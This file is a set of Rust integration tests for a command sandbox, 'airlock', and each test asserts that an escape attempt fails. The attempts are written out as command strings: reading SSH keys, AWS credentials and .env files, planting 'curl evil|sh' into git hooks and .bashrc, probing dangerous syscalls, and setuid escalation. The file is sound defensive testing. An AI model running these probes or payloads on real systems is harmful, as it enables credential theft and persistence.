//! `airlock run` end to end: the real binary, the real kernel, and the
//! escape attempts a hostile command would make. Each test asserts the
//! attack fails (or the protection reports it), not merely that it ran.

use std::io::{Read, Write};
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;
use std::process::{Command, Output, Stdio};

const AIRLOCK: &str = env!("CARGO_BIN_EXE_airlock");
const PY: &str = "/usr/bin/python3";

fn is_root() -> bool {
    unsafe { libc::geteuid() == 0 }
}

/// A workdir the jail's uid may write (65534 when the tests run as root).
fn workdir() -> tempfile::TempDir {
    let d = tempfile::Builder::new()
        .prefix("airlock-run-test")
        .tempdir()
        .unwrap();
    std::fs::set_permissions(d.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    chown_jail(d.path());
    d
}

fn chown_jail(p: &Path) {
    if is_root() {
        std::os::unix::fs::chown(p, Some(65534), Some(65534)).unwrap();
    }
}

struct Run {
    code: i32,
    out: String,
    err: String,
}

fn airlock(dir: &Path, extra: &[&str], script: &str) -> Run {
    airlock_env(dir, extra, script, &[])
}

fn airlock_env(dir: &Path, extra: &[&str], script: &str, env: &[(&str, &str)]) -> Run {
    let mut c = Command::new(AIRLOCK);
    c.arg("run")
        .arg("--workdir")
        .arg(dir)
        .args(extra)
        .args(["--", "/bin/sh", "-c", script]);
    for (k, v) in env {
        c.env(k, v);
    }
    let o: Output = c.stdin(Stdio::null()).output().unwrap();
    Run {
        code: o.status.code().unwrap_or(-1),
        out: String::from_utf8_lossy(&o.stdout).into_owned(),
        err: String::from_utf8_lossy(&o.stderr).into_owned(),
    }
}

fn write(p: &Path, s: &str) {
    if let Some(d) = p.parent() {
        std::fs::create_dir_all(d).unwrap();
    }
    std::fs::write(p, s).unwrap();
}

/// Runs a Python snippet in the jail that prints one line per probe.
fn py(dir: &Path, code: &str) -> Run {
    let script_path = dir.join("probe.py");
    write(&script_path, code);
    chown_jail(&script_path);
    airlock(dir, &[], &format!("{PY} probe.py"))
}

#[test]
fn exit_codes_follow_the_shell() {
    let d = workdir();
    assert_eq!(airlock(d.path(), &[], "exit 3").code, 3);
    assert_eq!(airlock(d.path(), &[], "kill -TERM $$").code, 143);
    let r = Command::new(AIRLOCK)
        .args(["run", "--workdir"])
        .arg(d.path())
        .args(["--", "no-such-command-xyz"])
        .output()
        .unwrap();
    assert_eq!(
        r.status.code(),
        Some(127),
        "{}",
        String::from_utf8_lossy(&r.stderr)
    );
    write(&d.path().join("notexec"), "#!/bin/sh\n");
    chown_jail(&d.path().join("notexec"));
    let r = Command::new(AIRLOCK)
        .args(["run", "--workdir"])
        .arg(d.path())
        .args(["--", "./notexec"])
        .output()
        .unwrap();
    assert_eq!(r.status.code(), Some(126));
    // airlock's own failure: 125 with one line.
    let r = Command::new(AIRLOCK)
        .args(["run", "--workdir", "/nonexistent/dir", "--", "true"])
        .output()
        .unwrap();
    assert_eq!(r.status.code(), Some(125));
    assert!(String::from_utf8_lossy(&r.stderr).contains("workdir"));
}

#[test]
fn stdin_and_stdout_pass_through() {
    let d = workdir();
    let mut c = Command::new(AIRLOCK)
        .arg("run")
        .arg("--workdir")
        .arg(d.path())
        .args(["--", "/usr/bin/tr", "a-z", "A-Z"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    c.stdin.take().unwrap().write_all(b"hello jail\n").unwrap();
    let mut out = String::new();
    c.stdout.take().unwrap().read_to_string(&mut out).unwrap();
    assert!(c.wait().unwrap().success());
    assert_eq!(out, "HELLO JAIL\n");
}

#[test]
fn runs_unprivileged_with_no_capabilities_and_filters_on() {
    let d = workdir();
    let r = airlock(
        d.path(),
        &[],
        "id -u; id -g; grep -E '^(CapEff|CapBnd|NoNewPrivs|Seccomp):' /proc/self/status",
    );
    assert_eq!(r.code, 0, "{}", r.err);
    let lines: Vec<&str> = r.out.lines().collect();
    assert_eq!(lines[0], "1000");
    assert_eq!(lines[1], "1000");
    assert!(r.out.contains("CapEff:\t0000000000000000"), "{}", r.out);
    assert!(r.out.contains("CapBnd:\t0000000000000000"), "{}", r.out);
    assert!(r.out.contains("NoNewPrivs:\t1"), "{}", r.out);
    assert!(r.out.contains("Seccomp:\t2"), "{}", r.out);
    if is_root() {
        // Files it creates belong to an unprivileged host uid, never root.
        assert_eq!(airlock(d.path(), &[], "echo x > made").code, 0);
        assert_eq!(
            std::fs::metadata(d.path().join("made")).unwrap().uid(),
            65534
        );
    }
}

#[test]
fn secrets_in_the_environment_do_not_enter() {
    let d = workdir();
    let r = airlock_env(
        d.path(),
        &[],
        "env",
        &[
            ("AWS_SECRET_ACCESS_KEY", "sentinel-aws-123"),
            ("GITHUB_TOKEN", "sentinel-gh-456"),
            ("LANG", "C.UTF-8"),
        ],
    );
    assert_eq!(r.code, 0);
    assert!(!r.out.contains("sentinel"), "{}", r.out);
    assert!(r.out.contains("LANG=C.UTF-8"));
}

#[test]
fn credential_files_are_hidden_at_any_depth_and_in_home() {
    let d = workdir();
    // Outside /tmp: the jail has its own /tmp, where a host home would not even be visible.
    let home = tempfile::Builder::new()
        .prefix("airlock-home")
        .tempdir_in("/var/tmp")
        .unwrap();
    std::fs::set_permissions(home.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    write(&home.path().join(".ssh/id_rsa"), "PRIVATE-SSH-KEY");
    write(&home.path().join(".aws/credentials"), "AWS-CREDS");
    write(&home.path().join(".netrc"), "NETRC-PASSWORD");
    for f in [".ssh", ".aws"] {
        std::fs::set_permissions(home.path().join(f), std::fs::Permissions::from_mode(0o755))
            .unwrap();
    }
    for f in [".ssh/id_rsa", ".aws/credentials", ".netrc"] {
        std::fs::set_permissions(home.path().join(f), std::fs::Permissions::from_mode(0o644))
            .unwrap();
    }
    write(&d.path().join("a/b/c/d/e/.env"), "DEEP-DOTENV");
    write(
        &d.path().join("a/b/c/d/e/.env.production"),
        "DEEP-DOTENV-PROD",
    );
    write(&d.path().join("a/b/server.pem"), "PEM-KEY");
    write(&d.path().join("x/prod.key"), "KEY-FILE");
    write(&d.path().join("gcp-service-account-prod.json"), "SA-JSON");
    write(&d.path().join("custom/secret.txt"), "CUSTOM-DENY");
    write(&d.path().join("ok.txt"), "VISIBLE");
    let h = home.path().to_str().unwrap();
    let script = format!(
        "cat {h}/.ssh/id_rsa {h}/.aws/credentials {h}/.netrc a/b/c/d/e/.env a/b/c/d/e/.env.production a/b/server.pem x/prod.key gcp-service-account-prod.json custom/secret.txt; \
         ln a/b/c/d/e/.env hard 2>/dev/null && cat hard; ln -s {h}/.ssh/id_rsa soft && cat soft; \
         cp a/b/server.pem copy.pem 2>/dev/null; cat copy.pem; cat ok.txt"
    );
    let r = airlock_env(
        d.path(),
        &["--deny-read", "custom/secret.txt"],
        &script,
        &[("HOME", h)],
    );
    for secret in [
        "PRIVATE-SSH-KEY",
        "AWS-CREDS",
        "NETRC-PASSWORD",
        "DEEP-DOTENV",
        "PEM-KEY",
        "KEY-FILE",
        "SA-JSON",
        "CUSTOM-DENY",
    ] {
        assert!(!r.out.contains(secret), "{secret} leaked: {}", r.out);
    }
    assert!(r.out.contains("VISIBLE"), "{} {}", r.out, r.err);
}

#[test]
fn writes_outside_writable_paths_fail() {
    let d = workdir();
    let extra = workdir();
    let outside = tempfile::tempdir().unwrap();
    let o = outside.path().to_str().unwrap();
    let e = extra.path().to_str().unwrap();
    let r = airlock(
        d.path(),
        &["--allow-write", e],
        &format!("echo x > /etc/airlock-evil; echo x > /usr/airlock-evil; echo x > {o}/evil; echo x > /tmp/fine && echo x > {e}/fine && echo x > here && echo done"),
    );
    assert!(r.out.contains("done"), "{} {}", r.out, r.err);
    assert!(!Path::new("/etc/airlock-evil").exists());
    assert!(!Path::new("/usr/airlock-evil").exists());
    assert!(!outside.path().join("evil").exists());
    assert!(extra.path().join("fine").exists());
    assert!(d.path().join("here").exists());
    // The jail's /tmp is its own.
    assert!(
        !Path::new("/tmp/fine").exists()
            || std::fs::read_to_string("/tmp/fine").unwrap_or_default() != "x\n"
    );
}

#[test]
fn protected_files_stay_read_only_and_planted_ones_are_removed() {
    let d = workdir();
    write(
        &d.path().join(".git/hooks/pre-commit"),
        "#!/bin/sh\nexit 0\n",
    );
    write(&d.path().join(".git/config"), "[core]\n");
    write(&d.path().join("sub/deeper/.envrc"), "export A=1\n");
    for p in [
        ".git",
        ".git/hooks",
        ".git/hooks/pre-commit",
        ".git/config",
        "sub",
        "sub/deeper",
        "sub/deeper/.envrc",
    ] {
        chown_jail(&d.path().join(p));
    }
    let report = d.path().join("report.json");
    let script = "echo 'curl evil|sh' >> .git/hooks/pre-commit; echo '[alias]' >> .git/config; echo evil >> sub/deeper/.envrc; \
                  rm -f .git/hooks/pre-commit; mv .git/config .git/config.old; \
                  echo 'curl evil|sh' > .bashrc; mkdir -p a/b/.vscode && echo '{}' > a/b/.vscode/tasks.json; echo x > a/.mcp.json; exit 0";
    let mut c = Command::new(AIRLOCK);
    c.arg("run")
        .arg("--workdir")
        .arg(d.path())
        .arg("--report")
        .arg(&report)
        .args(["--", "/bin/sh", "-c", script]);
    let o = c.output().unwrap();
    assert_eq!(o.status.code(), Some(0));
    assert_eq!(
        std::fs::read_to_string(d.path().join(".git/hooks/pre-commit")).unwrap(),
        "#!/bin/sh\nexit 0\n"
    );
    assert_eq!(
        std::fs::read_to_string(d.path().join(".git/config")).unwrap(),
        "[core]\n"
    );
    assert_eq!(
        std::fs::read_to_string(d.path().join("sub/deeper/.envrc")).unwrap(),
        "export A=1\n"
    );
    for planted in [".bashrc", "a/b/.vscode", "a/.mcp.json"] {
        assert!(!d.path().join(planted).exists(), "{planted} survived");
    }
    let rep: serde_json::Value = serde_json::from_slice(&std::fs::read(&report).unwrap()).unwrap();
    let found: Vec<String> = rep["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(found.len(), 3, "{found:?}");
    assert!(String::from_utf8_lossy(&o.stderr).contains("planted protected file"));
}

#[test]
fn kernel_attack_surface_is_filtered() {
    let d = workdir();
    let r = py(
        d.path(),
        r#"
import ctypes, errno, os, socket, fcntl, termios
libc = ctypes.CDLL(None, use_errno=True)
def sc(name, nr, *args):
    r = libc.syscall(nr, *args)
    print(name, "blocked" if r == -1 and ctypes.get_errno() == errno.EPERM else f"OPEN r={r} errno={ctypes.get_errno()}")
sc("bpf", 321, 0, 0, 0)
sc("perf_event_open", 298, 0, 0, -1, -1, 0)
sc("keyctl", 250, 0, 0, 0)
sc("add_key", 248, 0, 0, 0, 0, 0)
sc("ptrace", 101, 16, 1, 0, 0)
sc("io_uring_setup", 425, 1, 0)
sc("userfaultfd", 323, 0)
sc("unshare_user", 272, 0x10000000)
sc("unshare_ns", 272, 0x00020000)
sc("mount", 165, 0, 0, 0, 0, 0)
sc("setns", 308, 0, 0)
sc("pivot_root", 155, 0, 0)
sc("open_tree", 428, -100, 0, 0)
sc("kexec_load", 246, 0, 0, 0, 0)
sc("init_module", 175, 0, 0, 0)
sc("personality", 135, 0x0040000)
for fam, name in [(socket.AF_UNIX, "af_unix"), (socket.AF_NETLINK, "af_netlink"), (17, "af_packet")]:
    try:
        socket.socket(fam, socket.SOCK_DGRAM if fam != socket.AF_UNIX else socket.SOCK_STREAM)
        print(name, "OPEN")
    except PermissionError:
        print(name, "blocked")
    except OSError as e:
        print(name, "OPEN", e)
r, w = os.pipe()
try:
    fcntl.ioctl(r, termios.TIOCSTI, b"x")
    print("tiocsti OPEN")
except PermissionError:
    print("tiocsti blocked")
except OSError as e:
    print("tiocsti OPEN", e)
pid = os.fork()
if pid == 0:
    os._exit(0)
os.waitpid(pid, 0)
print("fork works")
"#,
    );
    assert_eq!(r.code, 0, "{}", r.err);
    assert!(!r.out.contains("OPEN"), "{}", r.out);
    assert_eq!(r.out.matches("blocked").count(), 20, "{}", r.out);
    assert!(r.out.contains("fork works"));
}

#[test]
fn proc_does_not_reach_the_host() {
    let d = workdir();
    let r = airlock(
        d.path(),
        &[],
        "echo 1 > /proc/sys/kernel/sysrq; echo rc=$?; cat /proc/kcore | head -c 1 | wc -c; ls /proc/1/root 2>&1 | head -1; ls /proc | grep -c '^[0-9]'",
    );
    assert!(
        r.out.contains("rc=1") || r.out.contains("rc=2"),
        "{} {}",
        r.out,
        r.err
    );
    let lines: Vec<&str> = r.out.lines().collect();
    assert_eq!(lines[1].trim(), "0", "kcore readable: {}", r.out);
    let visible: u32 = lines.last().unwrap().trim().parse().unwrap();
    assert!(visible < 10, "host processes visible: {visible}");
}

#[test]
fn no_network_without_rules() {
    let d = workdir();
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let r = py(
        d.path(),
        &format!(
            "import socket\nfor h in ['127.0.0.1', '1.1.1.1']:\n  try:\n    socket.create_connection((h, {port}), 1); print('CONNECTED', h)\n  except OSError as e: print('refused', h)\n"
        ),
    );
    assert!(!r.out.contains("CONNECTED"), "{}", r.out);
    assert_eq!(r.out.matches("refused").count(), 2, "{} {}", r.out, r.err);
}

/// A tiny HTTP server on the host's loopback that answers every request
/// with 200 and the request head it received.
fn http_echo() -> (u16, std::thread::JoinHandle<()>) {
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let h = std::thread::spawn(move || {
        for s in l.incoming().take(4) {
            let Ok(mut s) = s else { continue };
            let mut buf = [0u8; 4096];
            let n = s.read(&mut buf).unwrap_or(0);
            let head = String::from_utf8_lossy(&buf[..n]).to_string();
            let _ = write!(
                s,
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{head}",
                head.len()
            );
        }
    });
    (port, h)
}

#[test]
fn socks5_relay_follows_the_same_rules() {
    let d = workdir();
    let (port, _h) = http_echo();
    // The credential is the one in the proxy variables; SOCKS5 gets it as
    // username/password on the jail's 127.0.0.1:1080.
    let cfg = d.path().join("socks.yaml");
    write(
        &cfg,
        &format!("version: 1\nsandbox:\n  network:\n    allow: [\"127.0.0.1:{port}\"]\n    allow_private: [\"127.0.0.1/32\"]\n"),
    );
    let r = airlock(
        d.path(),
        &["--config", cfg.to_str().unwrap()],
        &format!(
            "P=${{HTTP_PROXY#http://}}; S=\"socks5h://${{P%:3128}}:1080\"; \
             curl -sS -x \"$S\" http://127.0.0.1:{port}/via-socks; echo; \
             curl -sS -m 5 -x \"$S\" http://example.com/ >/dev/null 2>&1 || echo socks-denied; \
             curl -sS -m 5 -x socks5h://127.0.0.1:1080 http://127.0.0.1:{port}/ >/dev/null 2>&1 || echo no-credential-refused"
        ),
    );
    assert!(r.out.contains("GET /via-socks"), "{} {}", r.out, r.err);
    assert!(r.out.contains("socks-denied"), "{}", r.out);
    assert!(r.out.contains("no-credential-refused"), "{}", r.out);
}

#[test]
fn network_goes_through_the_proxy_and_follows_its_rules() {
    let d = workdir();
    let (port, _h) = http_echo();
    let cfg = d.path().join("net.yaml");
    write(
        &cfg,
        &format!("version: 1\nsandbox:\n  network:\n    allow: [\"127.0.0.1:{port}\"]\n    allow_private: [\"127.0.0.1/32\"]\ncredentials:\n  - host: \"127.0.0.1:{port}\"\n    header: X-Api-Key\n    value: \"${{env:AIRLOCK_TEST_API_KEY}}\"\n"),
    );
    let report = d.path().join("report.json");
    let r = airlock_env(
        d.path(),
        &["--config", cfg.to_str().unwrap(), "--report", report.to_str().unwrap()],
        &format!(
            "curl -sS http://127.0.0.1:{port}/hello; echo; curl -sS -o /dev/null -w 'denied=%{{http_code}}\\n' http://example.com/; \
             curl -sS --noproxy '*' -m 2 http://127.0.0.1:{port}/direct >/dev/null 2>&1 || echo direct-refused; env | grep -c sentinel-api-key"
        ),
        &[("AIRLOCK_TEST_API_KEY", "sentinel-api-key-789")],
    );
    assert!(r.out.contains("GET /hello"), "{} {}", r.out, r.err);
    // The upstream saw the injected credential (its echo of it is masked,
    // same length, by the proxy); the jail never did.
    let masked = "*".repeat("sentinel-api-key-789".len());
    assert!(
        r.out.contains(&format!("x-api-key: {masked}"))
            || r.out.contains(&format!("X-Api-Key: {masked}")),
        "{}",
        r.out
    );
    assert!(!r.out.contains("sentinel-api-key-789"), "{}", r.out);
    assert!(r.out.contains("denied=403"), "{}", r.out);
    assert!(r.out.contains("direct-refused"), "{}", r.out);
    assert!(
        r.out.trim_end().ends_with('0'),
        "secret in the jail's env: {}",
        r.out
    );
    let rep: serde_json::Value = serde_json::from_slice(&std::fs::read(&report).unwrap()).unwrap();
    assert_eq!(rep["network_denials"][0]["host"], "example.com");
}

#[test]
fn planted_setuid_and_capability_binaries_gain_nothing() {
    if !is_root() {
        eprintln!("SKIPPED: needs root to prepare setuid/file-capability binaries");
        return;
    }
    let d = workdir();
    // Prepared by "an earlier run that got root": a setuid-root copy of id
    // and a python with cap_setuid in the workdir.
    let suid = d.path().join("suid-id");
    std::fs::copy("/usr/bin/id", &suid).unwrap();
    std::os::unix::fs::chown(&suid, Some(0), Some(0)).unwrap();
    std::fs::set_permissions(&suid, std::fs::Permissions::from_mode(0o4755)).unwrap();
    let capy = d.path().join("cap-python");
    std::fs::copy(std::fs::canonicalize(PY).unwrap(), &capy).unwrap();
    let setcap = Command::new("setcap")
        .arg("cap_setuid,cap_dac_override+ep")
        .arg(&capy)
        .status();
    let rep_dir = tempfile::tempdir().unwrap();
    let report = rep_dir.path().join("report.json");
    let r = airlock(
        d.path(),
        &["--report", report.to_str().unwrap()],
        "./suid-id -u; ./cap-python -c 'import os; os.setuid(0); print(\"ROOT\")' 2>&1 | tail -1; \
         cp /bin/sh ./mysh && chmod u+s ./mysh || echo chmod-refused; chmod 2755 ./mysh || echo chmod-refused; \
         /usr/bin/python3 -c 'import os; os.close(os.open(\"made-suid\", os.O_CREAT | os.O_WRONLY, 0o6755))'; echo planted",
    );
    assert_eq!(r.out.lines().next(), Some("1000"), "{} {}", r.out, r.err);
    // seccomp refuses setuid/setgid bits through chmod …
    assert_eq!(
        r.out.matches("chmod-refused").count(),
        2,
        "{} {}",
        r.out,
        r.err
    );
    assert!(r.out.contains("planted"), "{}", r.out);
    let mode = |p: &str| std::fs::metadata(d.path().join(p)).unwrap().mode();
    assert_eq!(mode("mysh") & 0o6000, 0);
    // … and the bits a creation mode carried are cleared after the run and
    // reported; the setuid file root prepared before the run is left alone.
    assert_eq!(mode("made-suid") & 0o6000, 0, "{:o}", mode("made-suid"));
    assert_ne!(mode("suid-id") & 0o4000, 0);
    let rep: serde_json::Value = serde_json::from_slice(&std::fs::read(&report).unwrap()).unwrap();
    let findings = rep["findings"].as_array().unwrap();
    assert_eq!(findings.len(), 1, "{findings:?}");
    assert!(findings[0]["path"]
        .as_str()
        .unwrap()
        .ends_with("/made-suid"));
    assert_eq!(findings[0]["action"], "setuid/setgid bits cleared");
    assert!(!r.out.contains("ROOT"), "{}", r.out);
    if setcap.is_ok_and(|s| s.success()) {
        // EPERM (no capability) or EINVAL (uid 0 does not exist in the jail).
        assert!(
            r.out.contains("Errno 1]") || r.out.contains("Errno 22]"),
            "{}",
            r.out
        );
    }
    // What the jail planted is owned by nobody, not root.
    let m = std::fs::metadata(d.path().join("mysh")).unwrap();
    assert_ne!(m.uid(), 0);
}

#[test]
fn limits_contain_fork_bombs_memory_hogs_and_runaways() {
    let d = workdir();
    let cfg = d.path().join("limits.yaml");
    write(
        &cfg,
        "version: 1\nsandbox:\n  limits:\n    pids: 64\n    memory: 128MiB\n",
    );
    let c = cfg.to_str().unwrap();
    // Fork bomb: contained, the run ends.
    let report = d.path().join("bomb.json");
    let r = airlock(
        d.path(),
        &[
            "--config",
            c,
            "--timeout",
            "10s",
            "--report",
            report.to_str().unwrap(),
        ],
        "for i in $(seq 1 200); do sleep 5 & done 2>/dev/null; echo spawned; kill 0",
    );
    assert_ne!(r.code, 0);
    if is_root() {
        let rep: serde_json::Value =
            serde_json::from_slice(&std::fs::read(&report).unwrap()).unwrap();
        assert_eq!(rep["pids_limited"], true, "{rep}");
        // Memory hog: killed by the cgroup, and the report says so.
        let report = d.path().join("mem.json");
        let r = airlock(
            d.path(),
            &["--config", c, "--report", report.to_str().unwrap()],
            &format!("{PY} -c 'x = bytearray(512 * 1024 * 1024); print(len(x))'"),
        );
        assert_ne!(r.code, 0, "{}", r.out);
        let rep: serde_json::Value =
            serde_json::from_slice(&std::fs::read(&report).unwrap()).unwrap();
        assert_eq!(rep["oom_killed"], true, "{rep}");
    }
    // Timeout: the whole tree dies, including a daemonised grandchild.
    let marker = d.path().join("survivor");
    let t0 = std::time::Instant::now();
    let r = airlock(
        d.path(),
        &["--timeout", "1s"],
        "(setsid sh -c 'sleep 3; echo alive > survivor' &); sleep 60",
    );
    assert!(t0.elapsed() < std::time::Duration::from_secs(8));
    assert!(r.code == 143 || r.code == 137, "code {}", r.code);
    assert!(r.err.contains("timed out"));
    std::thread::sleep(std::time::Duration::from_secs(3));
    assert!(!marker.exists(), "a grandchild outlived the jail");
}

#[test]
fn works_for_an_unprivileged_caller() {
    if !is_root() {
        return; // the whole suite already runs unprivileged
    }
    let d = workdir();
    let home = tempfile::tempdir().unwrap();
    chown_jail(home.path());
    let o = Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"])
        .arg(AIRLOCK)
        .arg("run")
        .arg("--workdir")
        .arg(d.path())
        .args(["--", "/bin/sh", "-c", "id -u; echo x > file; echo x > /etc/evil 2>/dev/null || echo ro; unshare -U true 2>/dev/null || echo nouserns"])
        .env("HOME", home.path())
        .output()
        .unwrap();
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        o.status.success(),
        "{out} {}",
        String::from_utf8_lossy(&o.stderr)
    );
    assert_eq!(out.lines().collect::<Vec<_>>(), ["1000", "ro", "nouserns"]);
    assert_eq!(
        std::fs::metadata(d.path().join("file")).unwrap().uid(),
        65534
    );
}
